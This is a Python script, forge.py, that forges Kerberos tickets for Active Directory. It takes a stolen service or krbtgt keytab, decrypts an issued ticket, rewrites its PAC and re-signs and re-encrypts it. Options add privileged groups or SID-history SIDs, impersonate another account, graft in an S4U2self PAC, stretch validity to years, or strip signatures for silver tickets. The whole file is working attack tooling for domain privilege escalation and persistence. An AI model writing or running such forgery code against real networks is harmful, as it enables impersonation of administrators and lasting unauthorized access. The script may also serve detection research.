#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""forge.py - tickets as who stole a key makes them (MITRE T1558.001, T1558.002): one that a controller issued is opened with that
key, changed, signed and sealed again. By Debian's python3-samba and python3-impacket; nothing is sent.

    forge.py KEYTAB ACCOUNT FROM TO CHANGE...      the ticket for ACCOUNT's service in the ticket file FROM; TO: another one

    CHANGE: groups=RID,RID     more groups (diamond ticket)
            as=NAME:RID        another account, everywhere in ticket and PAC (golden ticket after a template)
            pac=FILE:ACCOUNT   the PAC of a ticket for that account in another file, got by S4U2self (sapphire ticket)
            years=N            it lives so long
            extra=SID          one more SID of groups, as SID history has them
            unsigned           without the signatures that take krbtgt's key (silver ticket)
"""
import datetime
import os
import sys

from impacket.krb5 import asn1, crypto
from impacket.krb5.ccache import CCache
from impacket.krb5.keytab import Keytab
from pyasn1.codec.der import decoder, encoder
from samba.dcerpc import krb5pac, netlogon, samr, security
from samba.ndr import ndr_pack, ndr_unpack

IF_RELEVANT, WIN2K_PAC = 1, 128
TICKET, CHECKSUM = 2, 17                                    # numbers of use, RFC 4120 7.5.1, MS-PAC 2.8
CHECKSUMS = {17: 15, 18: 16, 23: 0xffffff76}


def key_of(keytab, account, etype):
    """The newest of that account and type."""
    names = (account.lower(), account.lower() + b"/corp.example")
    found = [entry.main_part["keyblock"]["keyvalue"]["data"] for entry in Keytab.loadFile(keytab).entries
             if entry.main_part["principal"].prettyPrint().lower().split(b"@")[0] in names
             and entry.main_part["keyblock"]["keytype"] == etype]
    return crypto.Key(etype, found[-1])


def opened(ticket, key):
    plain = crypto._enctype_table[key.enctype].decrypt(key, TICKET, ticket["enc-part"]["cipher"].asOctets())
    return decoder.decode(plain, asn1Spec=asn1.EncTicketPart())[0]


def pac_of(part):
    for element in part["authorization-data"]:
        if element["ad-type"] == IF_RELEVANT:
            inner = decoder.decode(element["ad-data"].asOctets(), asn1Spec=asn1.AD_IF_RELEVANT())[0]
            if inner[0]["ad-type"] == WIN2K_PAC:
                return element, inner
    sys.exit("forge: no PAC")


def buffers(pac, kind):
    return [b.info for b in pac.buffers if b.type == kind]


def add_groups(pac, rids):
    info = buffers(pac, krb5pac.PAC_TYPE_LOGON_INFO)[0].info.info3.base
    groups = list(info.groups.rids)
    for rid in rids:
        group = samr.RidWithAttribute()
        group.rid, group.attributes = int(rid), 7
        groups.append(group)
    info.groups.rids, info.groups.count = groups, len(groups)


def add_sid(pac, sid):
    info = buffers(pac, krb5pac.PAC_TYPE_LOGON_INFO)[0].info.info3
    more = netlogon.netr_SidAttr()
    more.sid, more.attributes = security.dom_sid(sid), 7
    info.sids, info.sidcount = list(info.sids or []) + [more], info.sidcount + 1
    info.base.user_flags |= 0x20


def become(part, pac, name, rid):
    part["cname"]["name-string"][0] = name
    info = buffers(pac, krb5pac.PAC_TYPE_LOGON_INFO)[0].info.info3.base
    info.account_name.string, info.rid = name, int(rid)
    sid = security.dom_sid("%s-%s" % (info.domain_sid, rid))
    for client in buffers(pac, krb5pac.PAC_TYPE_LOGON_NAME):
        client.account_name = name
    for upn in buffers(pac, krb5pac.PAC_TYPE_UPN_DNS_INFO):
        upn.upn_name = name + "@corp.example"
        upn.ex.samaccountname, upn.ex.objectsid = name, sid
    for requestor in buffers(pac, krb5pac.PAC_TYPE_REQUESTER_SID):
        requestor.sid = sid


def live(part, years):
    end = (datetime.datetime.utcnow() + datetime.timedelta(days=365 * years)).strftime("%Y%m%d%H%M%SZ")
    part["endtime"] = end
    part["renew-till"] = end


def sign(pac, key, controller):
    """Server's and KDC's; `controller` is what should be krbtgt's key."""
    def checksum(key, data):
        return crypto.make_checksum(CHECKSUMS[key.enctype], key, CHECKSUM, data)
    server = buffers(pac, krb5pac.PAC_TYPE_SRV_CHECKSUM)[0]
    kdc = buffers(pac, krb5pac.PAC_TYPE_KDC_CHECKSUM)[0]
    for buffer, by in ((server, key), (kdc, controller)):
        buffer.type = CHECKSUMS[by.enctype]
        buffer.signature = bytes(len(checksum(by, b"")))
    server.signature = checksum(key, ndr_pack(pac))
    kdc.signature = checksum(controller, server.signature)


def without_signatures(pac):
    kept = [b for b in pac.buffers if b.type not in (krb5pac.PAC_TYPE_TICKET_CHECKSUM, krb5pac.PAC_TYPE_FULL_CHECKSUM)]
    pac.buffers, pac.num_buffers = kept, len(kept)


def ticket_for(cache, account):
    wanted = b"krbtgt/" if account == b"krbtgt" else account.rstrip(b"$").lower()
    return next(c for c in cache.credentials if wanted in c["server"].prettyPrint().lower().split(b"@")[0] and
                b"X-CACHECONF" not in c["server"].prettyPrint())


def another_pac(keytab, words, to):
    """The PAC of a ticket for that account, as it would be in a TGT."""
    path, account = words.split(":")
    ticket = ticket_for(CCache.loadFile(path), account.encode()).ticket["data"]
    ticket = decoder.decode(ticket, asn1Spec=asn1.Ticket())[0]
    part = opened(ticket, key_of(keytab, account.encode(), int(ticket["enc-part"]["etype"])))
    pac = ndr_unpack(krb5pac.PAC_DATA, pac_of(part)[1][0]["ad-data"].asOctets())
    without_signatures(pac)
    own = {b.type for b in pac.buffers}
    pac.buffers = list(pac.buffers) + [b for b in to.buffers if b.type == krb5pac.PAC_TYPE_ATTRIBUTES_INFO and b.type not in own]
    pac.num_buffers = len(pac.buffers)
    return pac


def main():
    keytab, account, source, target = sys.argv[1:5]
    changes = dict((c.split("=") + [""])[:2] for c in sys.argv[5:])
    account = account.encode()
    cache = CCache.loadFile(source)
    credential = ticket_for(cache, account)
    ticket = decoder.decode(credential.ticket["data"], asn1Spec=asn1.Ticket())[0]
    key = key_of(keytab, account, int(ticket["enc-part"]["etype"]))
    part = opened(ticket, key)
    element, inner = pac_of(part)
    pac = ndr_unpack(krb5pac.PAC_DATA, inner[0]["ad-data"].asOctets())
    if "pac" in changes:
        pac = another_pac(keytab, changes["pac"], pac)
    if "as" in changes:
        become(part, pac, *changes["as"].split(":"))
        name = credential["client"].components[0]
        name["data"] = changes["as"].split(":")[0].encode()
        name["length"] = len(name["data"])
        cache.principal = credential["client"]
    if "groups" in changes:
        add_groups(pac, changes["groups"].split(","))
    if "extra" in changes:
        add_sid(pac, changes["extra"])
    if "years" in changes:
        live(part, int(changes["years"]))
        credential["time"]["endtime"] = credential["time"]["renew_till"] = 0x7ffffff0
    controller = key
    if "unsigned" in changes:
        without_signatures(pac)
        controller = crypto.Key(key.enctype, os.urandom(len(key.contents)))
    sign(pac, key, controller)
    inner[0]["ad-data"] = ndr_pack(pac)
    element["ad-data"] = encoder.encode(inner)
    ticket["enc-part"]["cipher"] = crypto._enctype_table[key.enctype].encrypt(key, TICKET, encoder.encode(part), None)
    credential.ticket["data"] = encoder.encode(ticket)
    credential.ticket["length"] = len(credential.ticket["data"])
    if account == b"krbtgt":                                # tickets got with the true one would be used
        cache.credentials = [credential]
    cache.saveFile(target)


if __name__ == "__main__":
    main()
